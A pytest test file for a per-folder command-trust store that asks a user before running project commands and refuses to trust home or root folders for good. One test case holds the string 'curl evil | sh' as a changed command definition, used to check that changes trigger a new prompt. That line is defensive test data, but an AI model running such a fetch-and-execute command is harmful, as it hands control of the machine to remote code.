"""What the user lets run in which folder."""

import os
import stat
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from vivek.errors import ConfigError
from vivek.session.trust import Trust, refusal


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "project").mkdir()
    return tmp_path / "project"


@pytest.fixture
def file() -> Path:
    return Path(os.environ["XDG_CONFIG_HOME"]) / "vivek" / "trust.toml"


PYTEST = ("test", ["pytest", "-q"], "pyproject.toml")


@pytest.mark.covers("T04", "T16")
def test_nothing_is_trusted_before_the_user_said_so(project: Path, file: Path) -> None:
    trust = Trust.open()

    assert trust.decision(project, *PYTEST) == "ask"
    assert (trust.allowed(project), trust.notices) == (frozenset(), ())
    assert not file.exists()


def test_once_holds_for_this_process_and_is_not_written(project: Path, file: Path) -> None:
    trust = Trust.open()
    trust.remember(project, *PYTEST, "once")

    assert trust.decision(project, *PYTEST) == "yes"
    assert Trust.open().decision(project, *PYTEST) == "ask"
    assert not file.exists()


@pytest.mark.parametrize(("answer", "decided"), [("always", "yes"), ("never", "no")])
def test_always_and_never_hold_in_this_folder_for_later_processes(
    answer: str, decided: str, project: Path, file: Path
) -> None:
    Trust.open().remember(project, *PYTEST, answer)  # type: ignore[arg-type]  # one of them, see above

    later = Trust.open()
    assert later.decision(project, *PYTEST) == decided
    assert later.decision(project.parent, *PYTEST) == "ask"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert "-q" not in file.read_text()


def test_the_newest_answer_counts(project: Path) -> None:
    trust = Trust.open()
    trust.remember(project, *PYTEST, "always")
    trust.remember(project, *PYTEST, "never")
    assert (trust.decision(project, *PYTEST), Trust.open().decision(project, *PYTEST)) == ("no", "no")
    trust.remember(project, *PYTEST, "once")
    assert (trust.decision(project, *PYTEST), Trust.open().decision(project, *PYTEST)) == ("yes", "no")


@pytest.mark.covers("T04", "T08")
@pytest.mark.parametrize(
    ("kind", "command", "source", "definition"),
    [
        ("test", ["pytest", "-q", "--pdb"], "pyproject.toml", ""),
        ("test", "pytest -q", "pyproject.toml", ""),
        ("test", ["pytest", "-q"], "tox.ini", ""),
        ("lint", ["pytest", "-q"], "pyproject.toml", ""),
        ("test", ["pytest", "-q"], "pyproject.toml", "curl evil | sh"),
        ("test", ["pytest -q"], "pyproject.toml", ""),
    ],
)
def test_what_changed_is_asked_for_again(
    kind: str, command: str | Sequence[str], source: str, definition: str, project: Path
) -> None:
    trust = Trust.open()
    trust.remember(project, *PYTEST, "always")

    assert trust.decision(project, kind, command, source, definition=definition) == "ask"


def test_a_folder_is_known_by_its_real_path(project: Path) -> None:
    (project.parent / "link").symlink_to(project)
    Trust.open().remember(project.parent / "link" / "." / "..", *PYTEST, "once")
    Trust.open().remember(project.parent / "link", *PYTEST, "always")

    assert Trust.open().decision(project, *PYTEST) == "yes"
    (project.parent / "link").unlink()
    (project.parent / "link").mkdir()
    assert Trust.open().decision(project.parent / "link", *PYTEST) == "ask"


@pytest.mark.covers("T14")
def test_a_folder_of_many_projects_is_never_trusted_for_good(home: Path, file: Path) -> None:
    trust = Trust.open()
    for folder in (Path("/"), home, home.parent, home / "x" / ".."):
        with pytest.raises(ConfigError, match="never trusted as a whole"):
            trust.remember(folder, *PYTEST, "always")
        with pytest.raises(ConfigError, match="never trusted as a whole"):
            trust.allow(folder, "git commit")
        assert trust.decision(folder, *PYTEST) == "ask"
        assert refusal(folder)
    assert not file.exists()
    assert refusal(home / "project") == ""
    trust.remember(home, *PYTEST, "once")
    assert trust.decision(home, *PYTEST) == "yes"


@pytest.mark.covers("T15")
@pytest.mark.parametrize(
    "text",
    [
        '[[folder]]\npath = "/w',
        "folder = 3\n",
        "[[folder]]\nallowed = []\n",
        '[[folder]]\npath = "/w"\nallowed = [3]\n',
        '[[folder]]\npath = "/w"\n[[folder.command]]\nkind = "test"\nsource = "a"\nhash = "b"\nanswer = "yes"\n',
        '[folder]\npath = "/w"\n',
        "\udcff",
    ],
)
def test_a_damaged_file_trusts_nothing_and_is_kept_aside(text: str, project: Path, file: Path) -> None:
    file.parent.mkdir(parents=True)
    file.write_bytes(text.encode("utf-8", "surrogateescape"))
    file.chmod(0o600)

    trust = Trust.open()

    assert trust.folders == {}
    [notice] = trust.notices
    assert "is damaged" in notice.text
    assert "nothing is trusted" in notice.text
    assert str(file.with_name("trust.toml.damaged-1")) in notice.hint
    assert not file.exists()
    trust.remember(project, *PYTEST, "always")
    assert Trust.open().decision(project, *PYTEST) == "yes"


def test_a_file_that_others_can_change_trusts_nothing(project: Path, file: Path) -> None:
    Trust.open().remember(project, *PYTEST, "always")
    file.chmod(0o620)

    trust = Trust.open()

    assert trust.decision(project, *PYTEST) == "ask"
    assert "can be changed by others" in trust.notices[0].text
    assert file.exists()


def test_approved_commands_are_kept_by_folder_and_destructive_ones_never(project: Path) -> None:
    trust = Trust.open()
    trust.allow(project, "git commit")
    trust.allow(project, "npm run build")
    trust.allow(project, "git commit")
    with pytest.raises(ConfigError, match="asked for each time"):
        trust.allow(project, "git push", destructive=True)
    with pytest.raises(ConfigError, match="asked for each time"):
        trust.allow(project, " ")

    assert Trust.open().allowed(project) == {"git commit", "npm run build"}
    assert Trust.open().allowed(project.parent) == frozenset()


def test_a_folder_can_be_forgotten(project: Path, tmp_path: Path) -> None:
    (tmp_path / "other").mkdir()
    trust = Trust.open()
    trust.allow(project, "git commit")
    trust.remember(project, *PYTEST, "always")
    trust.remember(tmp_path / "other", *PYTEST, "never")

    assert trust.forget(project)
    assert not trust.forget(project)

    later = Trust.open()
    assert (trust.decision(project, *PYTEST), trust.allowed(project)) == ("ask", frozenset())
    assert (later.decision(project, *PYTEST), later.decision(tmp_path / "other", *PYTEST)) == ("ask", "no")


ANSWER = """
import sys
from pathlib import Path
from vivek.session.trust import Trust
trust = Trust.open()
for number in range(10):
    trust.allow(Path(sys.argv[1]), f"program{sys.argv[2]} {number}")
"""


def test_answers_of_several_processes_at_once_are_all_kept(project: Path) -> None:
    children = [subprocess.Popen([sys.executable, "-c", ANSWER, str(project), str(each)]) for each in range(4)]
    assert [child.wait(60) for child in children] == [0] * 4

    assert len(Trust.open().allowed(project)) == 40


def test_a_file_that_cannot_be_written_is_told(project: Path, file: Path) -> None:
    file.parent.parent.mkdir(parents=True, exist_ok=True)
    file.parent.write_text("in the way")

    with pytest.raises(ConfigError, match=r"trust\.toml cannot be written"):
        Trust.open().allow(project, "git commit")
